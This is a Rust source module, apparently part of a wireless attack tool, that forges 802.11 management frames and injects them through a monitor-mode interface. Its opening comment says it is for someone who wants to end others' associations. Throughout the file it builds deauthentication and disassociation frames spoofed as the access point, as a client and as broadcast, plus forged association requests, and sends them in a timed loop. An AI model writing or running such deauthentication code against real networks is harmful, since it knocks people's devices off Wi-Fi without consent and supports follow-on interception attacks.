//! Somebody who wants to end others' associations: frames in clear in their names.

use std::time::Duration;

use dot11::element::Rsne;
use dot11::frame::{
    CapabilityInfo, ManagementAddresses, ManagementBuilder, SequenceControl, write_sequence_control,
};
use dot11::{MacAddr, ReasonCode};
use rustix::io::Errno;
use rustix::net::{SendFlags, send};

use crate::Failure;
use crate::netlink::packet_socket;

/// A header without fields, as a program writes it that has nothing to say.
const RADIOTAP: [u8; 8] = [0, 0, 8, 0, 0, 0, 0, 0];

/// What is forged.
pub(crate) enum What<'a> {
    /// Deauthentications and disassociations in the name of the access point and of its peer.
    Departures,
    /// Association requests in the peer's name, for the network of this name.
    Requests(&'a str),
}

impl<'a> What<'a> {
    pub(crate) fn parse(word: &str, ssid: &'a str) -> Option<Self> {
        match word {
            "departures" => Some(Self::Departures),
            "requests" => Some(Self::Requests(ssid)),
            _ => None,
        }
    }

    /// The frame of this number.
    fn frame(&self, number: u16, bssid: MacAddr, peer: MacAddr) -> Result<Vec<u8>, Failure> {
        let up = ManagementAddresses::to_ap(bssid, peer);
        let down = ManagementAddresses::from_ap(bssid, peer);
        let all = ManagementAddresses::from_ap(bssid, MacAddr::BROADCAST);
        // Of some the receiver asks itself whether they may be true.
        let reason = match number % 3 {
            0 => ReasonCode::UNSPECIFIED,
            1 => ReasonCode::INVALID_CLASS2_FRAME,
            _ => ReasonCode::INVALID_CLASS3_FRAME,
        };
        let mut frame = match (self, number % 5) {
            (Self::Requests(ssid), _) => {
                let rsne = Rsne::wpa2_personal();
                let rates = [2, 4, 11, 22, 12, 18, 24, 36, 48, 72, 96, 108];
                let capability = CapabilityInfo(CapabilityInfo::ESS | CapabilityInfo::PRIVACY);
                let request = ManagementBuilder::association_request(up, capability, 10, None)
                    .with(|e| {
                        e.ssid(ssid.as_bytes()).rates(&rates);
                        let _ = e.rsne(&rsne);
                    });
                request.finish()
            }
            (Self::Departures, 0) => ManagementBuilder::deauthentication(up, reason).finish(),
            (Self::Departures, 1) => ManagementBuilder::deauthentication(down, reason).finish(),
            (Self::Departures, 2) => ManagementBuilder::disassociation(up, reason).finish(),
            (Self::Departures, 3) => ManagementBuilder::deauthentication(all, reason).finish(),
            (Self::Departures, _) => ManagementBuilder::disassociation(down, reason).finish(),
        };
        write_sequence_control(&mut frame, SequenceControl::new(number & 0x0fff, 0));
        Ok(frame)
    }
}

pub(crate) fn run(
    monitor: &str,
    what: What<'_>,
    (bssid, peer): (MacAddr, MacAddr),
    count: u16,
) -> Result<(), Failure> {
    let path = format!("/sys/class/net/{monitor}/ifindex");
    let ifindex = std::fs::read_to_string(path)?.trim().parse()?;
    // What comes in does not matter: any type will do.
    let socket = packet_socket(ifindex, 0x88b5)?;
    let mut sent = 0;
    for number in 0..count {
        let bytes = [&RADIOTAP[..], &what.frame(number, bssid, peer)?].concat();
        match send(&socket, &bytes, SendFlags::empty()) {
            Ok(_) => sent += 1,
            Err(Errno::NOBUFS) => {}
            Err(e) => return Err(e.into()),
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    println!("{sent} frames");
    Ok(())
}
